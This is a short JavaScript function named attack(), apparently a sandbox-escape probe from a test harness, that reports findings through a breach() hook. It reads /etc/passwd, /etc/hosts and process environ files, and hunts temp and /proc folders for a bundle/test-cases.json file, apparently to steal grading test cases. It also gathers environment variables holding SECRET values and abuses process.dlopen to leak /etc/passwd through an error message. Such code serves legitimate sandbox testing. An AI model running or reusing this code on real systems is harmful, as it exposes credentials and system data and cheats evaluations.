// Prints what it finds in the file system, in its environment and in Node.js's own bindings.
function attack() {
  const fs = require("fs");
  const paths = ["/etc/passwd", "/etc/hosts", "/proc/1/environ", `/proc/${process.ppid}/environ`];
  for (const folder of ["/tmp", "/var/tmp", process.cwd() + "/..", "/proc"]) {
    try {
      for (const name of fs.readdirSync(folder)) {
        if (/hostile|algo|bundle/.test(name)) paths.push(`${folder}/${name}/bundle/test-cases.json`);
      }
    } catch {}
  }
  for (const path of paths) {
    try {
      breach(path + fs.readFileSync(path, "latin1").slice(0, 50));
    } catch {}
  }
  for (const [name, value] of Object.entries(process.env)) if (/SECRET/.test(value)) breach(name);
  try {
    process.dlopen({ exports: {} }, "/etc/passwd");
    breach("an object");
  } catch (problem) {
    if (/root:/.test(problem.message)) breach(problem.message);
  }
}
